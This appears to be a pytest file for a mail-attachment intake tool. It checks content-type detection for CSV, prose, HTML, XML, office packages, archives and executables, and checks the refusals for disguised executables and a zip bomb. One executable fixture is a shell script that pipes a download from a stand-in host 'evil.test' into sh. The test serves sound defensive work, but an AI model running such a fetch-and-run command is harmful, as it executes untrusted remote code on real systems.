"""What a part really is, by content: CSV or prose, XML or an HTML fragment,
office packages told from archives, executables, and the refusal's words."""

from __future__ import annotations

import pytest

from clerk.errors import UnsafeInput
from clerk.sources import content, safety
from tests.unit.sources import mail_corpus as corpus


@pytest.mark.parametrize("data", [b"a;b", b"a;b\n", b"INV-1;ACME;12.50", b"invoice\ttotal\n",
                                  b"invoice,total\nINV-1,12.50\n",
                                  b"invoice,supplier\nINV-1,ACME Ltd.\nINV-2,Foo Inc.\nINV-3,Bar Ltd.\n",
                                  b"sku,description\nA1,Copy paper A4 500 sheets\nB2,Toner black\n"])
def test_one_line_and_short_csv_is_csv(data):
    assert content.detect_content_type(data) == content.CSV


@pytest.mark.parametrize("data", [
    b"Dear customer, please find attached our invoice for November, thank you.",
    b"Hello Anna, thanks for the call.\nAs agreed, the invoice follows tomorrow.\n",
    b"We have received your order, and it will ship soon.\nRegards, the billing team.\n",
])
def test_prose_with_commas_is_text_not_csv(data):
    assert content.detect_content_type(data) == content.TEXT


@pytest.mark.parametrize("data", [
    b'<div dir="ltr"><p>Please find our invoice attached.</p></div>',     # Apple's text/watch-html
    b"<!-- generated --><table><tr><td>Total</td></tr></table>",
    b"  <p>Hi</p>",
    b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body/></html>",
])
def test_an_html_fragment_is_html_not_xml(data):
    assert content.detect_content_type(data) == content.HTML


@pytest.mark.parametrize("data", [corpus.INVOICE_XML, b"<Invoice><ID>1</ID></Invoice>",
                                  b"<!-- x --><rsm:CrossIndustryInvoice xmlns:rsm='urn:x'/>"])
def test_xml_stays_xml(data):
    assert content.detect_content_type(data) == content.XML


@pytest.mark.parametrize(("data", "expected", "kind"), [
    (corpus.xlsx_bytes(), content.XLSX, "spreadsheet"),
    (corpus.docx_bytes(), content.DOCX, "office_document"),
    (corpus.pptx_bytes(), content.PPTX, "office_document"),
    (corpus.odf_bytes(), "application/vnd.oasis.opendocument.text", "office_document"),
    (corpus.odf_bytes("application/vnd.oasis.opendocument.spreadsheet"),
     "application/vnd.oasis.opendocument.spreadsheet", "office_document"),
    (corpus.zip_of({"[Content_Types].xml": b"<Types/>", "x/y.xml": b"<y/>"}), content.OOXML, "office_document"),
    (corpus.zip_of({"a.pdf": corpus.pdf_bytes()}), content.ZIP, "archive"),
])
def test_office_packages_are_told_from_archives_with_the_whole_file_or_its_head(data, expected, kind):
    assert content.detect_content_type(data) == expected
    assert content.detect_content_type(data[:4096]) == expected
    assert content.kind_of(expected) == kind


@pytest.mark.parametrize(("data", "expected"), [
    (corpus.pe_bytes(), content.PE),
    (corpus.ELF_BYTES, content.ELF),
    (b"\xcf\xfa\xed\xfe" + bytes(28), content.MACHO),
    (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(24), content.MACHO),      # universal binary, 2 architectures
    (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(24), content.JAVA_CLASS),
    (b"#!/bin/sh\ncurl http://evil.test | sh\n", content.SCRIPT),
    (b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(68), content.SHORTCUT),
])
def test_executables_are_detected_as_executables(data, expected):
    assert content.detect_content_type(data) == expected
    assert content.kind_of(expected) == "executable"


def test_a_refusal_names_the_detected_kind_beside_the_declared_name_and_type():
    with pytest.raises(UnsafeInput) as refused:
        safety.check_content_type(content.PE, safety.DOCUMENT_TYPES, "invoice.pdf", "application/pdf")
    assert refused.value.reason == "executable"
    assert "'invoice.pdf'" in refused.value.message and "application/pdf" in refused.value.message
    assert content.PE in refused.value.message and "an executable" in refused.value.message


@pytest.mark.parametrize(("detected", "name", "reason"), [
    (content.DOCX, "Rechnung.docx", "office_document"),
    (content.ZIP, "invoices.zip", "archive"),
    (content.PNG, "scan.png", "image"),
    (content.HTML, "invoice.pdf", "type_not_allowed"),
    (content.TEXT, "pay-now.js", "executable"),           # text that Windows runs because of its name
    (content.CSV, "run.bat", "executable"),
])
def test_each_refused_kind_has_its_own_reason(detected, name, reason):
    with pytest.raises(UnsafeInput) as refused:
        safety.check_content_type(detected, {content.PDF}, name, None)
    assert refused.value.reason == reason


def test_a_zip_bomb_named_as_a_workbook_is_a_bomb_first():
    with pytest.raises(UnsafeInput) as refused:
        safety.judge_content(corpus.zip_bomb(20), safety.IntakeLimits(), safety.DOCUMENT_TYPES, "bomb.xlsx")
    assert refused.value.reason == "archive_bomb"
